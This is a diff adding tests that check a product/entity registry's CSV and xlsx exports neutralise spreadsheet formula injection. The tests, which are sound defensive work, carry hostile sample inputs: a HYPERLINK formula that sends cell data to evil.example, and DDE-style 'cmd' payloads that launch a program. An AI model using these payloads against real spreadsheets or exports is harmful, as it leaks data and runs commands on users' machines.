@@ -3,6 +3,7 @@ import { after, before, test } from 'node:test';
 import ExcelJS from 'exceljs';
 import { MEO_VAC, TAN_CUONG, entityBody, testApp, type Session, type TestApp } from '../../../../test/harness.js';
 import { multipart } from './import.fixtures.js';
+import { csvField } from './export.js';
 
 let t: TestApp;
 let tuyenQuang: Session;
@@ -95,4 +96,43 @@ test('entity export hides other provinces\' pending registrations and imports ba
   const again = multipart(products.rawPayload, 'san-pham.xlsx');
   const p = (await t.call({ method: 'POST', url: '/api/v1/imports/preview', body: again.body as never, headers: again.headers, as: tuyenQuang })).json();
   assert.deepEqual(p.totals, { rows: 1, create: 0, update: 1, errors: 0 }, JSON.stringify(p.rows));
+});
+
+test('a cell a spreadsheet would run as a formula (=, +, -, @, tab, CR) is neutralised in CSV; xlsx cells stay text', async () => {
+  // Through the API: names and a phone number starting with each sign an attacker (or a phone) can send.
+  const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0'];
+  const e = (await t.call({ method: 'POST', url: '/api/v1/entities', body: entityBody(MEO_VAC, { name: hostile[0], phone: '+84 912 345 678' }), as: tuyenQuang })).json();
+  for (const name of hostile) {
+    const res = await t.call({ method: 'POST', url: '/api/v1/products', body: { entityId: e.id, name, productSet: 4 }, as: tuyenQuang });
+    assert.equal(res.statusCode, 201, res.body);
+  }
+  const csv = (await t.call({ url: '/api/v1/products/export?format=csv&province=08', as: tuyenQuang })).rawPayload.toString('utf8');
+  const cells = csv.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)|\r\n/).map((c) => c.replace(/^"|"$/g, '').replace(/""/g, '"'));
+  for (const name of hostile) assert.ok(cells.includes(`'${name}`), `${name} is written as text`);
+  assert.ok(!cells.some((c) => /^[=+\-@\t\r]/.test(c)), 'no cell starts with a formula sign');
+  const entities = (await t.call({ url: '/api/v1/entities/export?format=csv&province=08', as: tuyenQuang })).rawPayload.toString('utf8');
+  assert.ok(entities.includes("'+84 912 345 678"), 'a phone number starting with + is text too');
+
+  // The workbook writes every one of them as a string cell, never a formula.
+  const xlsx = await t.call({ url: '/api/v1/products/export?format=xlsx&province=08', as: tuyenQuang });
+  const wb = new ExcelJS.Workbook();
+  await wb.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
+  const found = new Map<string, ExcelJS.ValueType>();
+  wb.worksheets[0].eachRow((row) => row.eachCell((cell) => { if (typeof cell.value === 'string' || cell.formula) found.set(String(cell.formula ?? cell.value), cell.type); }));
+  for (const name of hostile) assert.equal(found.get(name), ExcelJS.ValueType.String, `${name} is a string cell`);
+  assert.ok(![...found.values()].includes(ExcelJS.ValueType.Formula));
+});
+
+test('csvField: every formula start, numbers and dates', () => {
+  assert.equal(csvField('=1+1'), "'=1+1");
+  assert.equal(csvField('+84 912 345 678'), "'+84 912 345 678");
+  assert.equal(csvField('-5'), "'-5");
+  assert.equal(csvField('@A1'), "'@A1");
+  assert.equal(csvField('\tTab'), "'\tTab");
+  assert.equal(csvField('\r=1+1'), "\"'\r=1+1\"");
+  assert.equal(csvField('Mật ong = ngọt'), 'Mật ong = ngọt');
+  assert.equal(csvField(-5), '-5', 'a number is a number');
+  assert.equal(csvField(4), '4');
+  assert.equal(csvField(new Date('2019-03-15T00:00:00Z')), '15/03/2019');
+  assert.equal(csvField(null), '');
 });
